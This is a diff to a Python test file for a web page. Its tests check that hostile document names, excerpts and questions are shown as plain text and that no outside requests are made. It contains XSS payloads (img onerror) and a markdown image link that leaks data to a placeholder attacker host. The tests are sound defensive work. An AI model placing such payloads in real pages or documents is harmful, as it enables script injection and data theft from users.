@@ -1,4 +1,4 @@
-"""Text from documents, names of files and models stays text."""
+"""Text from documents, file names and models is never interpreted as HTML."""
 
 from html import unescape
 
@@ -45,8 +45,8 @@ def test_hostile_documents_and_names_are_shown_as_text(visiting: Visiting) -> No
 
         assert "docs/<img src=x onerror=alert(1)>.md" in names
         assert "docs/pirategnp.md" in names
-        said = f"![x](http://{ATTACKER}/?leak), <img src=x onerror=alert(2)> and x"
-        assert any(said in excerpt.replace("`", "") for excerpt in page.texts(".source .excerpt"))
+        excerpt_text = f"![x](http://{ATTACKER}/?leak), <img src=x onerror=alert(2)> and x"
+        assert any(excerpt_text in excerpt.replace("`", "") for excerpt in page.texts(".source .excerpt"))
         assert page.value("document.querySelectorAll('#result :is(img, script, svg, iframe, b)').length") == 0
         assert [request for request in seen.requests if not request.startswith(visit.url)] == []
         assert (seen.dialogs, seen.errors, seen.violations, seen.console) == ([], [], [], [])
@@ -62,7 +62,7 @@ def test_a_hostile_question_is_shown_as_text(visiting: Visiting) -> None:
 
 
 @pytest.mark.fault("active-content")
-def test_the_policy_would_stop_what_the_page_lets_through(visiting: Visiting) -> None:
+def test_the_content_security_policy_blocks_html_and_scripts(visiting: Visiting) -> None:
     with visiting(answer("Yes.")) as visit:
         blocked = visit.page.value(
             """(() => {
